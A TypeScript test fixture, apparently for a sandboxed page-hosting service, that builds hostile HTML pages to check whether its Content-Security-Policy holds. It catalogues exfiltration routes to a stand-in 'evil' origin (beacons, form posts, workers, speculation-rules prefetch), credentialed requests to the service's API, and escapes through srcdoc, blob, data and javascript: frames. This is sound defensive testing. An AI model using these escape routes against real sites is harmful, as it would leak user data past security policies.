import { createHash } from "node:crypto";

/** What a page that means harm tries. Each has a page of its own, because some attacks end the page. */
export interface Attack {
  readonly name: string;
  /** Runs in the page, where `effect` says that something worked. */
  readonly script: string;
  /** What else stands in the page, before the script. */
  readonly markup?: (evil: string) => string;
  /** Runs in a page at the evil origin that begins the attack. */
  readonly start?: string;
}

/** The texts that a script finds in its page by name. */
interface Names {
  /** An address at another origin that counts who comes. */
  readonly evil: string;
  /** The service's own address. */
  readonly network: string;
  /** Of the hosted page, for the attacker. */
  readonly app?: string;
}

/** A page with a script; `window.done` tells that it has run to its end. */
export function pageOf(script: string, names: Names, markup = ""): string {
  const { evil } = names;
  const inner = `<script>fetch("${evil}"); new Image().src = "${evil}"; open("${evil}")</script>`;
  const upward = `<script>top.location = "${evil}"</script>`;
  const constants = Object.entries({ ...names, inner, upward }).map(
    // Text in the form of the script's end would be its end.
    ([name, value]) => `const ${name} = ${JSON.stringify(value).replaceAll("</", "<\\/")};`,
  );
  return `<!doctype html><meta charset="utf-8"><title>Page</title><body>${markup}<script>
    ${constants.join("\n    ")}
    window.effects = [];
    const effect = (name) => window.effects.push(name);
    const add = (tag, properties) =>
      document.body.appendChild(Object.assign(document.createElement(tag), properties));
    const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
    const blob = (type, text) => URL.createObjectURL(new Blob([text], { type }));
    (async () => { ${script} })().catch(() => {}).finally(() => { window.done = true; });
  </script>`;
}

/** Requests of every kind to another origin. */
const REQUESTS: Readonly<Record<string, string>> = {
  fetch: "await fetch(evil)",
  "a fetch without CORS": "await fetch(evil, { mode: 'no-cors', method: 'POST', body: 'x' })",
  "an XHR": "const request = new XMLHttpRequest(); request.open('GET', evil); request.send()",
  "an image": "new Image().src = evil",
  "a script": "add('script', { src: evil + '.js' })",
  "a module": "await import(evil + '.js')",
  "a WebSocket": "new WebSocket(evil.replace('http', 'ws'))",
  "an event source": "new EventSource(evil)",
  "a beacon": "navigator.sendBeacon(evil, 'x')",
  "a ping": "add('a', { href: '#x', ping: evil, textContent: 'x' }).click()",
  "a font": "await new FontFace('f', 'url(' + evil + ')').load()",
  "a style sheet": "add('link', { rel: 'stylesheet', href: evil + '.css' })",
  "an imported style": "add('style', { textContent: '@import \"' + evil + '.css\";' })",
  "a background": "add('p', { style: 'background: url(' + evil + ')', textContent: 'x' })",
  "a video": "add('video', { src: evil, preload: 'auto' })",
  "an object": "add('object', { data: evil })",
  "a frame": "add('iframe', { src: evil })",
  "a prefetch": "add('link', { rel: 'prefetch', href: evil })",
  "a preload": "add('link', { rel: 'preload', as: 'image', href: evil })",
  "a worker's fetch": "new Worker(blob('text/javascript', 'fetch(\"' + evil + '\")'))",
  "a worker's import": "new Worker(blob('text/javascript', 'importScripts(\"' + evil + '.js\")'))",
  "a form": "add('form', { method: 'POST', action: evil }).submit()",
  "a form in a new window": "add('form', { action: evil, target: '_blank' }).submit()",
  "a pop-up": "if (window.open(evil)) effect('a window')",
};

/** What belongs to an address, and so to none of the pages at it. */
const STORES: Readonly<Record<string, string>> = {
  cookies: "document.cookie = 'stone=1'; if (document.cookie.includes('stone')) effect('kept')",
  "local storage": "localStorage.setItem('stone', '1'); effect('kept')",
  "session storage": "sessionStorage.setItem('stone', '1'); effect('kept')",
  IndexedDB:
    "await new Promise((ok, no) => Object.assign(indexedDB.open('stone'), { onsuccess: ok, onerror: no })); effect('kept')",
  caches: "await caches.open('stone'); effect('kept')",
  "a file system": "await navigator.storage.getDirectory(); effect('kept')",
  "a service worker":
    "await navigator.serviceWorker.register(location.pathname + '.js'); effect('registered')",
  "a shared worker":
    "const { port } = new SharedWorker(location.pathname + '.js'); await new Promise((ok) => { port.onmessage = ok; }); effect('shared')",
  "the network's cookies":
    "await fetch(network + '/api/v1/feed?' + new URL(evil).pathname, { credentials: 'include', mode: 'no-cors' })",
  "the network's other paths": "await fetch(network + '/', { mode: 'no-cors' }); effect('fetched')",
};

/** What the browser does for a page that it trusts. */
const POWERS: Readonly<Record<string, string>> = {
  dialogs: "alert('x'); confirm('x'); prompt('x')",
  "a download":
    "add('a', { download: 'x.html', href: blob('text/html', 'x'), textContent: 'x' }).click()",
  "the clipboard": "await navigator.clipboard.writeText('stone'); effect('written')",
  geolocation:
    "await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)); effect('found')",
};

/** Documents within documents, which might have a policy of their own. */
const ESCAPES: Readonly<Record<string, string>> = {
  "a srcdoc frame": "add('iframe', { srcdoc: inner })",
  "a srcdoc frame with a sandbox of its own":
    "add('iframe', { sandbox: 'allow-scripts allow-same-origin allow-popups', srcdoc: inner })",
  "a blob frame": "add('iframe', { src: blob('text/html', inner) })",
  "a data frame": "add('iframe', { src: 'data:text/html,' + encodeURIComponent(inner) })",
  "a javascript frame": "add('iframe', { src: 'javascript:' + JSON.stringify(inner) })",
  "a blob page": "location = blob('text/html', inner)",
  "a written page": "document.write(inner); document.close()",
  "a policy of its own":
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: 'connect-src *' })); await fetch(evil)",
  "a frame that moves its top": "add('iframe', { srcdoc: upward })",
};

/** Rules by which the browser fetches an address before anybody asks for it. */
const rulesFor = (url: string): string =>
  JSON.stringify({ prefetch: [{ urls: [url], eagerness: "immediate" }] });

/** Inserts rules as a script; `text` is an expression of the page. */
const inserting = (text: string): string =>
  `add('script', { type: 'speculationrules', textContent: ${text} })`;

const prefetching = "JSON.stringify({ prefetch: [{ urls: [evil], eagerness: 'immediate' }] })";

/** All ways by which rules could come into a page. */
export const SPECULATIONS: readonly Attack[] = [
  {
    name: "a speculation of the page's own",
    script: "",
    markup: (evil) => `<script type="speculationrules">${rulesFor(evil)}</script>`,
  },
  { name: "a speculation", script: inserting(prefetching) },
  {
    name: "a speculation about links",
    script: `add('a', { href: evil, textContent: 'x' }); ${inserting(
      "JSON.stringify({ prefetch: [{ where: { href_matches: evil + '*' }, eagerness: 'immediate' }] })",
    )}`,
  },
  {
    name: "a prerendering",
    script: inserting(prefetching.replace("prefetch", "prerender")),
  },
  {
    name: "a speculation that stands in the page as another script",
    script: inserting("document.querySelector('#rules').text"),
    markup: (evil) => `<script id="rules">${rulesFor(evil)}</script>`,
  },
  {
    name: "a written speculation",
    script: `document.write('<script type="speculationrules">' + ${prefetching} + '<' + '/script>')`,
  },
];

const HASH = createHash("sha256").update("7").digest("base64");

/** A hash that allows an inline script would allow an address with it, but for the second policy. */
export const INTEGRITY: Attack = {
  name: "a foreign script with the hash of one that may run",
  script: `add('script', { integrity: 'sha256-${HASH}', crossOrigin: 'anonymous', src: evil + '.js' })`,
  markup: () => "<script>7</script>",
};

const scripts = { ...REQUESTS, ...STORES, ...POWERS, ...ESCAPES };

export const ATTACKS: readonly Attack[] = [
  ...Object.entries(scripts).map(([name, script]) => ({ name, script })),
  ...SPECULATIONS,
  INTEGRITY,
  {
    name: "framing",
    script: "if (top !== window) effect('framed')",
    start: "add('iframe', { src: app })",
  },
  {
    name: "an opener",
    script: "if (window.opener) effect('opened')",
    // The handle is lost when the page's headers arrive, which a busy machine delays.
    start: `const opened = open(app);
for (let i = 0; i < 40 && !opened.closed; i++) await wait(100);
if (!opened.closed) effect('a handle')`,
  },
  {
    name: "shared memory",
    script: "if (crossOriginIsolated || typeof SharedArrayBuffer === 'function') effect('shared')",
  },
];
